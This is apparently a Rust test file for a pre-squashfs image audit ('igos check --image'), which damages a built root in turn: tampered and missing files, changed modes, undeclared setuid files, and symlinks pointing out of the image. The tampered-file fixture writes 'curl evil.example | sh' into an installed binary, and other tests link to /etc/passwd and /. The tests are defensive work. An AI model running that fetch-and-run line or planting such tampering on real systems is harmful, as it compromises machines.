//! The pre-squashfs image audit (`igos check --image DIR`, rules/image.pol): roots built in
//! the test with the real tools — a recipe packed by `igos pack`, trusted by `pkm sync`,
//! installed by `pkm --root <image> install` — then damaged one way per test: a missing
//! verify path, a tampered file, a changed mode, an unowned file, a pending package, an
//! undeclared setuid file. Also: JSON and SARIF, a hostile image (symlinks out of the
//! root), an image without pkm's database, and the build's `builtin image-audit` phase.
//! The binaries run from the fixture directory with relative paths, so the output is
//! stable for snapshots.

mod support;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::process::{Command, Output};

use support::TempDir;

const HELLO: &str = "\
name: hello
version: \"1.0\"
release: 1
description: Says hello
tier: toolchain
verify_paths:
  - /usr/bin/hello
  - /usr/share/hello/README
";

const BLOCKED: &str = "\
name: blocked
version: \"0.1\"
tier: toolchain
pending_acquisition: \"waiting for the upstream release\"
verify_paths:
  - /usr/bin/blocked
";

/// `tree/` (two recipes: hello, and blocked which is pending), `img/` with hello installed
/// by pkm from an archive `igos pack` made: /usr/bin/hello, the setuid /usr/bin/hello-su
/// (declared so: the archive ships it 4755), /usr/share/hello/README, /etc/hello.conf.
fn built_image(tag: &str) -> TempDir {
    let t = TempDir::new(tag);
    t.write("tree/packages/toolchain/hello/package.yml", HELLO);
    t.write("tree/packages/toolchain/blocked/package.yml", BLOCKED);
    t.write("dest/usr/bin/hello", "#!/bin/sh\necho hello\n");
    t.write("dest/usr/bin/hello-su", "#!/bin/sh\nid -u\n");
    t.write("dest/usr/share/hello/README", "Says hello.\n");
    t.write("dest/etc/hello.conf", "greeting = hi\n");
    let dest = t.path().join("dest");
    for (p, mode) in [
        ("usr/bin/hello", 0o755),
        ("usr/bin/hello-su", 0o4755),
        ("usr/share/hello/README", 0o644),
        ("etc/hello.conf", 0o644),
        ("usr", 0o755),
        ("usr/bin", 0o755),
        ("usr/share", 0o755),
        ("usr/share/hello", 0o755),
        ("etc", 0o755),
    ] {
        chmod(&dest.join(p), mode);
    }
    let o = run(&t, "igos", &["pack", "--recipe", "tree/packages/toolchain/hello", "--destdir", "dest", "--out", "out"]);
    assert_eq!(o.status.code(), Some(0), "igos pack: {}", text(&o.stderr));
    let archive = "out/hello-1.0-1.igos.tar.gz";
    let sha = igos::archive::hash_file(&t.path().join(archive)).expect("hash the archive");
    t.write("index.txt", &format!("igos-index 1\nhello 1.0 1 {sha} hello-1.0-1.igos.tar.gz\n"));
    fs::create_dir_all(t.path().join("img")).expect("image dir");
    let o = run(&t, "pkm", &["--root", "img", "sync", "index.txt"]);
    assert_eq!(o.status.code(), Some(0), "pkm sync: {}", text(&o.stderr));
    let o = run(&t, "pkm", &["--root", "img", "install", archive]);
    assert_eq!(o.status.code(), Some(0), "pkm install: {}", text(&o.stderr));
    assert_eq!(fs::metadata(t.path().join("img/usr/bin/hello-su")).unwrap().permissions().mode() & 0o7777, 0o4755);
    t
}

fn chmod(p: &Path, mode: u32) {
    fs::set_permissions(p, fs::Permissions::from_mode(mode)).unwrap_or_else(|e| panic!("chmod {}: {e}", p.display()));
}

fn run(t: &TempDir, bin: &str, args: &[&str]) -> Output {
    let exe = if bin == "pkm" { env!("CARGO_BIN_EXE_pkm") } else { env!("CARGO_BIN_EXE_igos") };
    Command::new(exe)
        .args(args)
        .current_dir(t.path())
        .env("NO_COLOR", "1")
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .env("IGOS_TODAY", "2026-12-04")
        .output()
        .expect("the binary runs")
}

fn audit(t: &TempDir, extra: &[&str]) -> Output {
    let mut args = vec!["check", "--image", "img", "--root", "tree"];
    args.extend_from_slice(extra);
    run(t, "igos", &args)
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn snapshot(name: &str, text: &str) {
    insta::with_settings!({ snapshot_path => "../snapshots", prepend_module_to_snapshot => false }, {
        insta::assert_snapshot!(name, text);
    });
}

/// The check ids of the findings in a JSON report, in order.
fn finding_checks(t: &TempDir) -> Vec<String> {
    let o = audit(t, &["--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", text(&o.stdout)));
    let mut out = vec![];
    for g in json["gates"].as_array().expect("gates") {
        for f in g["findings"].as_array().expect("findings") {
            out.push(format!("{} {}", f["check"].as_str().unwrap_or(""), f["subject"].as_str().unwrap_or("")));
        }
    }
    out
}

#[test]
fn an_image_pkm_built_passes() {
    let t = built_image("image-clean");
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(0), "{}{}", text(&o.stdout), text(&o.stderr));
    assert!(finding_checks(&t).is_empty(), "{:?}", finding_checks(&t));
    snapshot("image-audit-clean", &text(&o.stdout));
}

#[test]
fn a_missing_verify_path_halts_and_points_at_the_recipe() {
    let t = built_image("image-verify");
    // The recipe promises a library the package never installed.
    t.write("tree/packages/toolchain/hello/package.yml", &HELLO.replace("  - /usr/share/hello/README\n", "  - /usr/share/hello/README\n  - /usr/lib/libhello.so.1\n"));
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    let out = text(&o.stdout);
    assert!(out.contains("hello declares verify path /usr/lib/libhello.so.1, which is not in the image"), "{out}");
    assert!(out.contains("packages/toolchain/hello/package.yml:9:5"), "points at the verify_paths line: {out}");
    assert_eq!(finding_checks(&t), ["verify-path-missing hello"]);
    snapshot("image-audit-missing-verify-path", &out);
}

#[test]
fn a_tampered_file_halts() {
    let t = built_image("image-tampered");
    let hello = t.path().join("img/usr/bin/hello");
    fs::write(&hello, "#!/bin/sh\necho hello\ncurl evil.example | sh\n").unwrap();
    chmod(&hello, 0o755);
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(finding_checks(&t), ["installed-file-modified hello"]);
    snapshot("image-audit-tampered-file", &text(&o.stdout));
    // A configuration file changed after install is an advisory, not a halt.
    fs::write(&hello, "#!/bin/sh\necho hello\n").unwrap();
    chmod(&hello, 0o755);
    t.write("img/etc/hello.conf", "greeting = good morning\n");
    assert_eq!(audit(&t, &[]).status.code(), Some(0));
    assert_eq!(finding_checks(&t), ["config-file-changed hello"]);
}

#[test]
fn a_changed_mode_halts() {
    let t = built_image("image-mode");
    chmod(&t.path().join("img/usr/share/hello/README"), 0o666);
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1));
    let out = text(&o.stdout);
    assert!(out.contains("/usr/share/hello/README of hello has mode 0666, but pkm recorded 0644"), "{out}");
    assert_eq!(finding_checks(&t), ["installed-file-mode hello"]);
    snapshot("image-audit-changed-mode", &out);
}

#[test]
fn an_unowned_file_is_an_advisory_and_allowed_paths_are_quiet() {
    let t = built_image("image-unowned");
    t.write("img/usr/bin/intruder", "#!/bin/sh\n");
    t.write("img/etc/ld.so.cache", "cache");
    t.write("img/var/log/build.log", "log");
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(0), "advisories pass: {}", text(&o.stdout));
    assert_eq!(finding_checks(&t), ["unowned-file /usr/bin/intruder"], "ld.so.cache and var/log are allowed in the rules");
    snapshot("image-audit-unowned-file", &text(&o.stdout));
}

#[test]
fn a_pending_package_is_exempt_from_verify_paths() {
    let t = built_image("image-pending");
    // `blocked` was never built: pending_acquisition exempts it.
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(0));
    assert!(!text(&o.stdout).contains("blocked"), "{}", text(&o.stdout));
    // Without its pending_acquisition it is a package the phases should have built.
    let unpended = BLOCKED.replace("pending_acquisition: \"waiting for the upstream release\"\n", "");
    t.write("tree/packages/toolchain/blocked/package.yml", &unpended);
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(finding_checks(&t), ["verify-path-missing blocked"]);
    snapshot("image-audit-pending-package", &text(&o.stdout));
}

#[test]
fn an_undeclared_setuid_file_halts() {
    let t = built_image("image-setuid");
    chmod(&t.path().join("img/usr/bin/hello"), 0o4755);
    t.write("img/usr/libexec/helper", "#!/bin/sh\n");
    chmod(&t.path().join("img/usr/libexec/helper"), 0o2755);
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1));
    let out = text(&o.stdout);
    assert!(!out.contains("/usr/bin/hello-su has mode"), "hello-su is shipped setuid by its archive: {out}");
    assert_eq!(
        finding_checks(&t),
        [
            "installed-file-mode hello",
            "undeclared-setuid /usr/bin/hello",
            "undeclared-setuid /usr/libexec/helper",
            "unowned-file /usr/libexec/helper"
        ]
    );
    snapshot("image-audit-undeclared-setuid", &out);
}

#[test]
fn a_removed_or_replaced_file_halts() {
    let t = built_image("image-removed");
    fs::remove_file(t.path().join("img/usr/share/hello/README")).unwrap();
    // The binary replaced by a link to a file outside the image: never followed.
    fs::remove_file(t.path().join("img/usr/bin/hello")).unwrap();
    symlink("/etc/passwd", t.path().join("img/usr/bin/hello")).unwrap();
    assert_eq!(audit(&t, &[]).status.code(), Some(1));
    assert_eq!(
        finding_checks(&t),
        ["verify-path-missing hello", "verify-path-missing hello", "installed-file-missing hello", "installed-file-type hello"],
        "both verify paths: README is gone, and /usr/bin/hello names the image's /etc/passwd, which is not there"
    );
}

#[test]
fn json_and_sarif_carry_the_same_findings() {
    let t = built_image("image-formats");
    chmod(&t.path().join("img/usr/share/hello/README"), 0o600);
    let o = audit(&t, &["--format", "sarif"]);
    assert_eq!(o.status.code(), Some(1));
    let sarif: serde_json::Value = serde_json::from_slice(&o.stdout).expect("SARIF is JSON");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert_eq!(results.len(), 1, "{sarif}");
    assert_eq!(results[0]["ruleId"], "installed-file-mode");
    let o = audit(&t, &["--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
    let gates: Vec<&str> = json["gates"].as_array().unwrap().iter().map(|g| g["id"].as_str().unwrap()).collect();
    assert_eq!(gates, ["image-audit", "rules"]);
}

#[test]
fn a_symlinked_database_directory_is_refused_and_nothing_outside_is_read() {
    let t = built_image("image-hostile");
    // Move pkm's state outside the image and link it back in: a hostile image could point
    // var/lib/igos anywhere on the auditing machine.
    fs::create_dir_all(t.path().join("outside")).unwrap();
    fs::rename(t.path().join("img/var/lib/igos"), t.path().join("outside/igos")).unwrap();
    symlink(t.path().join("outside/igos"), t.path().join("img/var/lib/igos")).unwrap();
    // And a directory link to / must not be walked.
    symlink("/", t.path().join("img/usr/share/root-link")).unwrap();
    let before = fs::read_dir(t.path().join("outside/igos")).unwrap().count();
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(2), "{}{}", text(&o.stdout), text(&o.stderr));
    let err = text(&o.stderr);
    assert!(err.contains("/var/lib/igos in the image is a symlink, not a dir"), "{err}");
    assert_eq!(fs::read_dir(t.path().join("outside/igos")).unwrap().count(), before, "nothing created outside the image");
    // Without the database link, the root link is one unowned path, not a walk of /.
    fs::remove_file(t.path().join("img/var/lib/igos")).unwrap();
    let o = audit(&t, &["--format", "json"]);
    let out = text(&o.stdout);
    assert!(out.contains("image-database-missing"), "{out}");
    assert!(!out.contains("/usr/share/root-link/"), "the link to / was not followed");
}

#[test]
fn an_image_without_pkm_database_halts() {
    let t = TempDir::new("image-nodb");
    t.write("tree/packages/toolchain/blocked/package.yml", BLOCKED);
    t.write("img/usr/bin/something", "x");
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stdout).contains("the image has no pkm database at /var/lib/igos/pkm.db"), "{}", text(&o.stdout));
    let o = run(&t, "igos", &["check", "--image", "no-such-dir", "--root", "tree"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o.stderr).contains("cannot open the image no-such-dir"), "{}", text(&o.stderr));
}

const PHASES: &str = r#"policy 1

tiers toolchain

builder tc {
  phase toolchain
  tier toolchain
  names {
    *
  }
}

phase toolchain {
  run "echo toolchain built"
}

phase image-audit {
  title "Audit the image before it is packed"
  builtin image-audit
}

phase squashfs {
  run "echo squashfs packed"
}
"#;

#[test]
fn the_build_runs_the_audit_before_squashfs_and_stops_on_a_halt() {
    let t = built_image("image-build");
    t.write("rules/phases.pol", PHASES);
    let image_rules = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/image.pol")).unwrap();
    t.write("rules/image.pol", &image_rules);
    let build = |t: &TempDir| run(t, "igos", &["build", "--root", "tree", "--rules", "rules", "--state", "state", "--image", "img"]);
    let o = build(&t);
    assert_eq!(o.status.code(), Some(0), "{}{}", text(&o.stdout), text(&o.stderr));
    assert!(text(&o.stdout).contains("[2/3] image-audit ok"), "{}", text(&o.stdout));
    assert!(text(&o.stdout).contains("squashfs packed"));

    chmod(&t.path().join("img/usr/bin/hello"), 0o4777);
    let o = build(&t);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    let out = text(&o.stdout);
    assert!(out.contains("/usr/bin/hello has mode 4777, but no package ships it setuid or setgid"), "{out}");
    assert!(out.contains("[2/3] image-audit FAILED with exit code 1"), "{out}");
    assert!(!out.contains("squashfs packed"), "squashfs never runs on a failed audit:\n{out}");
    assert!(text(&o.stderr).contains("resume with: igos build --root tree --rules rules --state state --image img"), "{}", text(&o.stderr));
}

#[test]
fn verify_paths_follow_the_images_own_links_and_never_leave_it() {
    let t = built_image("image-links");
    // A merged-/usr root: /lib is a link. An absolute link is the image's, not the host's;
    // `..` stops at the image root.
    symlink("usr", t.path().join("img/lib")).unwrap();
    symlink("/usr/share", t.path().join("img/opt")).unwrap();
    symlink("../../..", t.path().join("img/up")).unwrap();
    let recipe = HELLO.replace(
        "  - /usr/share/hello/README\n",
        "  - /lib/bin/hello\n  - /opt/hello/README\n  - /up/usr/bin/hello-su\n  - /lib/bin/nothing\n",
    );
    t.write("tree/packages/toolchain/hello/package.yml", &recipe);
    let o = audit(&t, &[]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stdout));
    assert_eq!(
        finding_checks(&t),
        ["verify-path-missing hello", "unowned-file /lib", "unowned-file /opt", "unowned-file /up"],
        "only /lib/bin/nothing is missing"
    );
    assert!(text(&o.stdout).contains("verify path /lib/bin/nothing"), "{}", text(&o.stdout));
    // A link loop is a path that is not there, not a hang.
    symlink("loop-b", t.path().join("img/loop-a")).unwrap();
    symlink("loop-a", t.path().join("img/loop-b")).unwrap();
    t.write("tree/packages/toolchain/hello/package.yml", &HELLO.replace("  - /usr/bin/hello\n", "  - /loop-a/x\n"));
    assert_eq!(audit(&t, &[]).status.code(), Some(1));
    assert!(finding_checks(&t).contains(&"verify-path-missing hello".to_string()));
}

#[test]
fn a_file_swapped_for_a_link_after_the_walk_is_not_hashed_through_it() {
    // The walk saw a regular file; by the time a check asks for its hash it is a link to a
    // file outside the image (or a directory on the way is). The hash is refused, not taken
    // of the outside file.
    let t = TempDir::new("image-swap");
    t.write("img/usr/bin/tool", "inside\n");
    t.write("outside/secret", "outside\n");
    let image = igos::image::load(&t.path().join("img")).expect("load");
    let i = image.find("usr/bin/tool").expect("walked");
    fs::remove_file(t.path().join("img/usr/bin/tool")).unwrap();
    symlink(t.path().join("outside/secret"), t.path().join("img/usr/bin/tool")).unwrap();
    assert_eq!(image.sha256(i), None, "the final link is not followed");
    // Again, with the directory on the way swapped (a fresh load: a hash is computed once).
    fs::remove_file(t.path().join("img/usr/bin/tool")).unwrap();
    t.write("img/usr/bin/tool", "inside\n");
    let image = igos::image::load(&t.path().join("img")).expect("load");
    let i = image.find("usr/bin/tool").expect("walked");
    fs::rename(t.path().join("img/usr/bin"), t.path().join("outside/bin")).unwrap();
    symlink(t.path().join("outside/bin"), t.path().join("img/usr/bin")).unwrap();
    assert_eq!(image.sha256(i), None, "a directory link on the way is not followed");
    assert!(t.path().join("img/usr/bin/tool").exists(), "(through the link the file is there)");
    // A fresh load sees the links as links and walks none of them.
    let image = igos::image::load(&t.path().join("img")).expect("load");
    assert_eq!(image.files.iter().map(|f| (f.path.as_str(), f.kind)).collect::<Vec<_>>(), [("usr", "dir"), ("usr/bin", "symlink")]);
}
